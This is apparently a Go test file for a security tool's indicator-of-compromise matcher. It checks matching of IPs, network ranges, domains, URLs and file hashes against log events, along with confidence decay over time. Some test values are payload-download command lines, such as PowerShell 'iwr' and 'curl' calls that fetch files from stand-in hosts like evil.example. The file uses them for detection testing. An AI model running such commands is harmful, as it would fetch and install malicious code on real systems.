package ioc

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"reflect"
	"sync"
	"testing"
	"time"

	"github.com/mamori-soc/mamori/internal/event"
)

var matchNow = time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)

func ind(id string, kind Kind, value string) Indicator {
	return Indicator{ID: id, Kind: kind, Value: value, Source: "test", Confidence: 80, ValidFrom: matchNow.Add(-time.Hour)}
}

func testSet(t testing.TB) *Set {
	t.Helper()
	inds := []Indicator{
		ind("ip4", IP, "192.0.2.1"),
		ind("ip4-dup", IP, "192.0.2.1"),
		ind("ip6", IP, "2001:db8::1"),
		ind("net8", CIDR, "10.0.0.0/8"),
		ind("net16", CIDR, "10.1.0.0/16"),
		ind("net24", CIDR, "10.1.2.0/24"),
		ind("net24-dup", CIDR, "10.1.2.0/24"),
		ind("ip10", IP, "10.1.2.3"),
		ind("net32", CIDR, "10.9.9.9/32"),
		ind("net6", CIDR, "2001:db8:ff00::/40"),
		ind("dom", Domain, "evil.example"),
		ind("dom-sub", Domain, "cdn.evil.example"),
		ind("dom-co", Domain, "shop.co.test"),
		ind("url", URL, "http://evil.example/payload.bin"),
		ind("url-q", URL, "https://login.example/auth?next=1"),
		ind("md5", MD5, "d41d8cd98f00b204e9800998ecf8427e"),
		ind("sha1", SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
		ind("sha256", SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
		ind("imphash-as-md5", MD5, "708386a4aface0fb31ba7c7f26c6b7f2"),
	}
	return Compile(inds, matchNow)
}

func hitIDs(hits []Hit) []string {
	out := []string{}
	for _, h := range hits {
		out = append(out, h.Indicator.ID+"="+string(h.Value))
	}
	return out
}

func TestMatchValue(t *testing.T) {
	s := testSet(t)
	tests := []struct {
		value string
		want  []string // id=matched value
	}{
		{"192.0.2.1", []string{"ip4-dup=192.0.2.1", "ip4=192.0.2.1"}},
		{"192.0.2.1:443", []string{"ip4-dup=192.0.2.1:443", "ip4=192.0.2.1:443"}},
		{"::ffff:192.0.2.1", []string{"ip4-dup=::ffff:192.0.2.1", "ip4=::ffff:192.0.2.1"}},
		{"192.0.2.2", nil},
		{"2001:DB8:0::1", []string{"ip6=2001:DB8:0::1"}},
		{"[2001:db8::1]:8443", []string{"ip6=[2001:db8::1]:8443"}},
		{"10.1.2.3", []string{"ip10=10.1.2.3", "net24-dup=10.1.2.3", "net24=10.1.2.3", "net16=10.1.2.3", "net8=10.1.2.3"}},
		{"10.1.2.255", []string{"net24-dup=10.1.2.255", "net24=10.1.2.255", "net16=10.1.2.255", "net8=10.1.2.255"}},
		{"10.1.3.0", []string{"net16=10.1.3.0", "net8=10.1.3.0"}},
		{"10.255.255.255", []string{"net8=10.255.255.255"}},
		{"10.9.9.9", []string{"net32=10.9.9.9", "net8=10.9.9.9"}},
		{"11.0.0.0", nil},
		{"9.255.255.255", nil},
		{"2001:db8:ff12::5", []string{"net6=2001:db8:ff12::5"}},
		{"2001:db8:fe00::5", nil},
		{"evil.example", []string{"dom=evil.example"}},
		{"EVIL.Example.", []string{"dom=EVIL.Example."}},
		{"a.b.evil.example", []string{"dom=a.b.evil.example"}},
		{"x.cdn.evil.example", []string{"dom-sub=x.cdn.evil.example", "dom=x.cdn.evil.example"}},
		{"notevil.example", nil},
		{"example", nil},
		{"co.test", nil},
		{"www.shop.co.test", []string{"dom-co=www.shop.co.test"}},
		{"svchost.exe", nil},
		{"10.0.19041.546", nil},
		{"alice@mail.evil.example", []string{"dom=mail.evil.example"}},
		{"http://evil.example/payload.bin", []string{"url=http://evil.example/payload.bin", "dom=evil.example"}},
		{"HTTP://EVIL.example:80/payload.bin#x", []string{"url=HTTP://EVIL.example:80/payload.bin#x", "dom=EVIL.example"}},
		{"http://evil.example/other", []string{"dom=evil.example"}},
		{"https://login.example/auth?next=1", []string{"url-q=https://login.example/auth?next=1"}},
		{`powershell -c "iwr http://www.evil.example/payload.bin -OutFile x; iwr https://login.example/auth?next=1"`,
			[]string{"dom=www.evil.example", "url-q=https://login.example/auth?next=1"}},
		{"curl http://192.0.2.1:8080/x", []string{"ip4-dup=192.0.2.1", "ip4=192.0.2.1"}},
		{"wget http://[2001:db8::1]/x", []string{"ip6=[2001:db8::1]"}},
		{"see ://nothing and http:// and 1http://evil.example/", []string{"dom=evil.example"}},
		{"D41D8CD98F00B204E9800998ECF8427E", []string{"md5=D41D8CD98F00B204E9800998ECF8427E"}},
		{"da39a3ee5e6b4b0d3255bfef95601890afd80709", []string{"sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709"}},
		{"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,IMPHASH=708386A4AFACE0FB31BA7C7F26C6B7F2",
			[]string{"sha1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", "md5=D41D8CD98F00B204E9800998ECF8427E", "sha256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"}},
		{"MD5=d41d8cd98f00b204e9800998ecf8427", nil},
		{"", nil},
		{"ab", nil},
	}
	for _, tc := range tests {
		hits := s.MatchValue([]byte("f"), []byte(tc.value), nil)
		if tc.want == nil {
			tc.want = []string{}
		}
		if got := hitIDs(hits); !reflect.DeepEqual(got, tc.want) {
			t.Errorf("MatchValue(%q) = %q, want %q", tc.value, got, tc.want)
		}
	}
}

func TestMatchEvent(t *testing.T) {
	s := testSet(t)
	var ev event.Event
	ev.AddString("EventID", "3")
	ev.AddString("SourceIp", "10.1.2.3")
	ev.AddString("DestinationHostname", "cdn.evil.example")
	ev.AddString("Image", `C:\Windows\System32\svchost.exe`)
	ev.AddString("Hashes", "MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=708386A4AFACE0FB31BA7C7F26C6B7F2")
	hits := s.Match(&ev, nil)
	var got []string
	for _, h := range hits {
		got = append(got, string(h.Field)+":"+h.Indicator.ID)
	}
	want := []string{"SourceIp:ip10", "SourceIp:net24-dup", "SourceIp:net24", "SourceIp:net16", "SourceIp:net8",
		"DestinationHostname:dom-sub", "DestinationHostname:dom", "Hashes:md5"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Match = %q, want %q", got, want)
	}
	var empty *Set
	if n := len(empty.Match(&ev, nil)); n != 0 || empty.Len() != 0 {
		t.Errorf("nil set matched %d", n)
	}
	if n := len(Compile(nil, matchNow).Match(&ev, nil)); n != 0 {
		t.Errorf("empty set matched %d", n)
	}
}

// TestMatchOnlyKinds checks that a set with only some kinds still finds
// them where other kinds' shortcuts could skip them.
func TestMatchOnlyKinds(t *testing.T) {
	for _, tc := range []struct {
		ind   Indicator
		value string
	}{
		{ind("ip", IP, "192.0.2.1"), "GET http://192.0.2.1/x"},
		{ind("net", CIDR, "192.0.2.0/24"), "http://192.0.2.9:81/"},
		{ind("dom", Domain, "a.example"), "https://x.a.example/"},
		{ind("md5", MD5, "d41d8cd98f00b204e9800998ecf8427e"), "MD5=d41d8cd98f00b204e9800998ecf8427e"},
		{ind("url", URL, "http://a.example/"), "http://A.example"},
	} {
		s := Compile([]Indicator{tc.ind}, matchNow)
		if hits := s.MatchValue([]byte("f"), []byte(tc.value), nil); len(hits) != 1 {
			t.Errorf("%s in %q: %d hits, want 1", tc.ind.ID, tc.value, len(hits))
		}
	}
}

func TestCompileActive(t *testing.T) {
	day := 24 * time.Hour
	mk := func(id string, f func(*Indicator)) Indicator {
		i := ind(id, IP, "192.0.2."+fmt.Sprint(len(id)))
		f(&i)
		return i
	}
	inds := []Indicator{
		mk("a", func(i *Indicator) {}),
		mk("bb", func(i *Indicator) { i.ValidUntil = matchNow }),                    // expired exactly now
		mk("ccc", func(i *Indicator) { i.ValidFrom = matchNow.Add(day) }),           // not yet
		mk("dddd", func(i *Indicator) { i.ValidFrom = matchNow.Add(-31 * day) }),    // decayed (30 days for IPs)
		mk("eeeee", func(i *Indicator) { i.Confidence = 0 }),                        // no confidence
		mk("ffffff", func(i *Indicator) { i.Value = "192.000.2.1" }),                // not normalized
		mk("ggggggg", func(i *Indicator) { i.ValidFrom = matchNow.Add(-20 * day) }), // decays in 10 days
		mk("hhhhhhhh", func(i *Indicator) { i.ValidUntil = matchNow.Add(5 * day) }), // expires in 5 days
		mk("iiiiiiiii", func(i *Indicator) { i.ValidFrom = matchNow.Add(2 * day) }), // valid in 2 days
		mk("jjjjjjjjjj", func(i *Indicator) {
			i.Kind, i.Value = SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
			i.ValidFrom = matchNow.Add(-1000 * day)
		}), // hashes do not decay
		mk("kkkkkkkkkkk", func(i *Indicator) { i.Kind, i.Value = MD5, "D41D8CD98F00B204E9800998ECF8427E" }), // not normalized
	}
	s := Compile(inds, matchNow)
	want := CompileStats{Compiled: 4, Expired: 1, NotYetValid: 2, Decayed: 2, Invalid: 2}
	if got := s.Stats(); got != want {
		t.Errorf("Stats() = %+v, want %+v", got, want)
	}
	if got, want := s.NextChange(), matchNow.Add(day); !got.Equal(want) {
		t.Errorf("NextChange() = %v, want %v", got, want)
	}
	var ids []string
	for _, i := range s.Indicators() {
		ids = append(ids, i.ID)
	}
	if want := []string{"a", "ggggggg", "hhhhhhhh", "jjjjjjjjjj"}; !reflect.DeepEqual(ids, want) {
		t.Errorf("compiled %q, want %q", ids, want)
	}
}

func TestEffectiveConfidence(t *testing.T) {
	day := 24 * time.Hour
	from := matchNow
	tests := []struct {
		name string
		ind  Indicator
		at   time.Time
		want int
	}{
		{"fresh", Indicator{Kind: IP, Confidence: 80, ValidFrom: from}, from, 80},
		{"before valid_from", Indicator{Kind: IP, Confidence: 80, ValidFrom: from}, from.Add(-time.Second), 0},
		{"half life", Indicator{Kind: IP, Confidence: 80, ValidFrom: from}, from.Add(15 * day), 40},
		{"rounds up", Indicator{Kind: IP, Confidence: 80, ValidFrom: from}, from.Add(30*day - time.Second), 1},
		{"end", Indicator{Kind: IP, Confidence: 80, ValidFrom: from}, from.Add(30 * day), 0},
		{"domain lasts 90 days", Indicator{Kind: Domain, Confidence: 90, ValidFrom: from}, from.Add(30 * day), 60},
		{"own lifetime", Indicator{Kind: IP, Confidence: 100, ValidFrom: from, Lifetime: 10 * day}, from.Add(5 * day), 50},
		{"never decays", Indicator{Kind: IP, Confidence: 70, ValidFrom: from, Lifetime: -1}, from.Add(5000 * day), 70},
		{"hash", Indicator{Kind: SHA256, Confidence: 70, ValidFrom: from}, from.Add(5000 * day), 70},
		{"valid_until: no decay", Indicator{Kind: IP, Confidence: 60, ValidFrom: from, ValidUntil: from.Add(365 * day)}, from.Add(300 * day), 60},
		{"valid_until passed", Indicator{Kind: IP, Confidence: 60, ValidFrom: from, ValidUntil: from.Add(day)}, from.Add(day), 0},
		{"created when no valid_from", Indicator{Kind: IP, Confidence: 80, Created: from}, from.Add(15 * day), 40},
		{"no time at all", Indicator{Kind: IP, Confidence: 80}, from, 80},
		{"clamped", Indicator{Kind: IP, Confidence: 300, ValidFrom: from}, from, 100},
	}
	for _, tc := range tests {
		if got := tc.ind.EffectiveConfidence(tc.at); got != tc.want {
			t.Errorf("%s: EffectiveConfidence = %d, want %d", tc.name, got, tc.want)
		}
	}
}

// TestPrefixTable compares network lookups with a brute-force scan over
// random nested and overlapping prefixes.
func TestPrefixTable(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	for round := range 50 {
		var inds []Indicator
		var prefixes []netip.Prefix
		n := 1 + r.IntN(60)
		for i := range n {
			var p netip.Prefix
			if r.IntN(4) == 0 {
				var a [16]byte
				a[0], a[1], a[2] = 0x20, 0x01, byte(r.IntN(4))
				p = netip.PrefixFrom(netip.AddrFrom16(a), 8+r.IntN(120)).Masked()
			} else {
				a := [4]byte{10, byte(r.IntN(3)), byte(r.IntN(4)), byte(r.IntN(256))}
				p = netip.PrefixFrom(netip.AddrFrom4(a), r.IntN(33)).Masked()
			}
			prefixes = append(prefixes, p)
			inds = append(inds, ind(fmt.Sprint(i), CIDR, p.String()))
		}
		s := Compile(inds, matchNow)
		for range 300 {
			var a netip.Addr
			if r.IntN(4) == 0 {
				var b [16]byte
				b[0], b[1], b[2], b[15] = 0x20, 0x01, byte(r.IntN(4)), byte(r.IntN(256))
				b[3] = byte(r.IntN(256))
				a = netip.AddrFrom16(b)
			} else {
				a = netip.AddrFrom4([4]byte{10, byte(r.IntN(3)), byte(r.IntN(4)), byte(r.IntN(256))})
			}
			want := map[string]bool{}
			for i, p := range prefixes {
				if p.Contains(a) {
					want[fmt.Sprint(i)] = true
				}
			}
			hits := s.MatchValue([]byte("f"), []byte(a.String()), nil)
			got := map[string]bool{}
			lastBits := 129
			for _, h := range hits {
				got[h.Indicator.ID] = true
				bits := netip.MustParsePrefix(h.Indicator.Value).Bits()
				if netip.MustParsePrefix(h.Indicator.Value).Addr().Is4() {
					bits += 96
				}
				if bits > lastBits {
					t.Fatalf("round %d: %s: hits not longest prefix first: %q", round, a, hitIDs(hits))
				}
				lastBits = bits
			}
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("round %d: %s matched %v, want %v (prefixes %v)", round, a, got, want, prefixes)
			}
		}
	}
}

func TestMatchDoesNotAllocate(t *testing.T) {
	s := testSet(t)
	var ev event.Event
	ev.AddString("SourceIp", "10.1.2.3")
	ev.AddString("DestinationIp", "2001:db8::1")
	ev.AddString("QueryName", "x.cdn.evil.example")
	ev.AddString("CommandLine", `cmd /c curl https://login.example/auth?next=1 -o C:\x.exe`)
	ev.AddString("Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E")
	ev.AddString("url", "http://evil.example/payload.bin")
	ev.AddString("Image", `C:\Windows\System32\svchost.exe`)
	ev.AddString("Message", "A long message without anything in it, repeated. A long message without anything in it.")
	dst := make([]Hit, 0, 64)
	dst = s.Match(&ev, dst[:0])
	if len(dst) != 13 {
		t.Fatalf("%d hits, want 13: %q", len(dst), hitIDs(dst))
	}
	if n := testing.AllocsPerRun(200, func() { dst = s.Match(&ev, dst[:0]) }); n != 0 {
		t.Errorf("Match allocates %.1f times per event, want 0", n)
	}
}

func TestMatchConcurrent(t *testing.T) {
	s := testSet(t)
	var ev event.Event
	ev.AddString("a", "10.1.2.3")
	ev.AddString("b", "x.cdn.evil.example")
	want := len(s.Match(&ev, nil))
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			var dst []Hit
			for range 1000 {
				if dst = s.Match(&ev, dst[:0]); len(dst) != want {
					t.Errorf("%d hits, want %d", len(dst), want)
					return
				}
			}
		})
	}
	wg.Wait()
}
